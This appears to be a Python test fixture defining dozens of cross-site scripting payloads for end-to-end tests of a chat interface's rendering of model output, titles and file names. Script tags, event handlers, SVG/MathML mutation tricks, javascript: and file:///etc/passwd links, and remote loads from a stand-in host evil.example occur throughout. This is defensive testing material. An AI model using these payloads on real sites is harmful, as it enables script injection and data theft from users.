"""Texts that would run or fetch something in a page that trusted them. All written for these tests; `P` is what they try.

They go through model output, titles, imports and file names (tests/e2e/test_xss.py). Every address is of a host that no test may
ask, or of a path on our own that no page asks by itself.
"""

from __future__ import annotations

P = "window.__pwned=1"
AWAY = "https://evil.example"

SCRIPTS = (
    f"<script>{P}</script>",
    f"<SCRIPT SRC={AWAY}/x.js></SCRIPT>",
    f"<scr<script>ipt>{P}</scr</script>ipt>",
    f"<script/x>{P}</script >",
    f"<script\n>{P}</script\n>",
    f"</script><script>{P}</script>",
    f"<!--><script>{P}</script>-->",
    f"<![CDATA[<script>{P}</script>]]>",
    f"<template><script>{P}</script></template><xmp><script>{P}</script></xmp>",
    f"\u202e<script>{P}</script>\x00<scr\x00ipt>{P}</scr\x00ipt>",
    f"\uff1cscript\uff1e{P}\uff1c/script\uff1e",
    f"<script type=module>import('{AWAY}/m.js')</script>",
)
HANDLERS = (
    f'<img src=x onerror="{P}">',
    f"<img src=x onerror={P}//",
    f"<IMG/SRC=x/ONERROR={P}>",
    f"<img src='x'onerror='{P}'>",
    f"<body onload={P}><input autofocus onfocus={P}>",
    f'<details open ontoggle="{P}"><summary>x</summary></details>',
    f"<video><source onerror={P}></video><audio src=x onerror={P}>",
    f"<marquee onstart={P}>x</marquee><select autofocus onfocus={P}></select>",
    f"<div onpointerenter={P} style=position:fixed;inset:0>x</div>",
    f"<p style=animation:arrive onanimationstart={P}>x</p>",
    f'<a href="#" onclick={P} autofocus tabindex=1 onfocus={P}>x</a>',
    f'![" onerror={P} x="](https://ok.example/a.png)',
    f'[x](https://ok.example "\\" onmouseover={P} x=\\"")',
    f"a<br/onload={P}>b<sub onclick={P}>c</sub><kbd autofocus tabindex=0 onfocus={P}>d</kbd><sup style=position:fixed>e</sup>",
    f'- \u0645 <br><kbd>\n  ```"><img/src=x/onerror={P}>\n  <img src=x onerror={P}>\n  ```\n> ```html\n> <script>{P}</script>',
)
VECTORS = (
    f'<svg onload="{P}"><animate onbegin="{P}" attributeName=x dur=1s /></svg>',
    f'<svg><a xlink:href="javascript:{P}"><text y=20>x</text></a></svg>',
    f"<svg><script>{P}</script><foreignObject><img src=x onerror={P}></foreignObject></svg>",
    f"<svg><use href={AWAY}/x.svg#a></use><image href={AWAY}/x.png></image></svg>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={P}&gt;">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={P}>",
    f'<math href="javascript:{P}"><mi xlink:href="javascript:{P}">x</mi></math>',
    f'<noscript><p title="</noscript><img src=x onerror={P}>">',
    f'<svg></p><style><a id="</style><img src=1 onerror={P}>">',
)
FRAMES = (
    f'<iframe srcdoc="<script>parent.{P[7:]}</script>"></iframe>',
    f'<iframe src="javascript:parent.{P[7:]}"></iframe>',
    f'<object data="javascript:{P}"></object><embed src={AWAY}/x.swf>',
    f'<meta http-equiv=refresh content="0;url=javascript:{P}">',
    f"<link rel=stylesheet href={AWAY}/x.css><base href={AWAY}/>",
    f"<link rel=prefetch href={AWAY}/p><link rel=dns-prefetch href=//evil.example>",
    f"<form action={AWAY}><button formaction=javascript:{P} autofocus>x</button></form>",
    f"<style>@import url({AWAY}/x.css); body {{ background: url({AWAY}/b) }}</style>",
    f'<div style="background:url({AWAY}/s);behavior:url(x)" class=fatal id=composer data-testid=message data-act=keep>x</div>',
    f"<portal src={AWAY}></portal><fencedframe></fencedframe><frameset onload={P}>",
    "<form id=scroller><input name=parentElement><input name=attributes></form><a id=messages name=body>x</a>",
)
LINKS = (
    f'<a href="javascript:{P}">x</a>',
    f"[x](javascript:{P})",
    f"[x](JaVaScRiPt:{P})",
    f"[x](java\nscript:{P})",
    f"[x](&#106;avascript:{P})",
    f"[x](\x01javascript:{P})",
    f"[x](data:text/html,<script>{P}</script>)",
    "[x](vbscript:msgbox(1))",
    f"[x](blob:{AWAY}/1)",
    "[x](file:///etc/passwd)",
    f"<javascript:{P}>",
    "[x](/v1/chat/completions)",
    "[x](//evil.example)",
    f"[a][b]\n\n[b]: javascript:{P}",
    f"[x](<javascript:{P}> 'title')",
)
PICTURES = (
    f"<img src={AWAY}/pixel.png srcset='{AWAY}/2x.png 2x'>",
    f"![pixel]({AWAY}/pixel.png)",
    "![own](/v1/models)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    f'![a][ref]\n\n[ref]: {AWAY}/ref.png "t"',
    f"[![nested]({AWAY}/n.png)](javascript:{P})",
    f"{AWAY}/autolink.png www.evil.example mail@evil.example",
)
BLOCKS = (
    f'```"><img src=x onerror={P}>\ncode\n```',
    f'```js onload="{P}"\n</code></pre><script>{P}</script>\n```',
    f"```html\n<script>{P}</script><img src=x onerror={P}>\n```",
    f"````\n```\n<script>{P}</script>\n```\n````\n```\n<img src=x onerror={P}>",
    f"~~~diff\n+<script>{P}</script>\n~~~",
    f'```mermaid\ngraph TD; A["<img src=x onerror={P}>"]-->B; click A href "javascript:{P}"\n```',
    f'```mermaid\n%%{{init: {{"securityLevel": "loose"}}}}%%\nflowchart LR\nA@{{ img: "{AWAY}/d.png" }}\n```',
    f"`<img src=x onerror={P}>`",
    f"| a |\n|---|\n| <img src=x onerror={P}> | [x](javascript:{P}) |",
    f"- [ ] <script>{P}</script>\n- [x] b\n> <script>{P}</script>",
    f"# <img src=x onerror={P}>\n<h1 id=scroller>x</h1>\n***<svg onload={P}>***",
    f"[^1]: <script>{P}</script>\n\n<!-- --!><img src=x onerror={P}> -->",
)
FORMULAS = (
    f"$\\href{{javascript:{P}}}{{x}}$ $\\url{{javascript:{P}}}$",
    f"$$\n\\includegraphics{{{AWAY}/f.png}}\n$$",
    f"$\\htmlStyle{{background:url({AWAY}/h)}}{{x}}\\htmlData{{act=keep}}{{y}}\\htmlId{{composer}}{{z}}$",
    f"$\\text{{</annotation><img src=x onerror={P}>}}$",
    f"\\(<img src=x onerror={P}>\\) \\[\\def\\a{{<script>{P}</script>}}\\a\\]",
    f"$x$<img src=x onerror={P}>$y$",
)
THOUGHTS = (
    f"<think><img src=x onerror={P}><script>{P}</script></think><script>{P}</script>",
    f"</think><script>{P}</script></think>",
    f"<think>[x](javascript:{P}) ![x]({AWAY}/t.png)",
)

PAYLOADS = (*SCRIPTS, *HANDLERS, *VECTORS, *FRAMES, *LINKS, *PICTURES, *BLOCKS, *FORMULAS, *THOUGHTS)
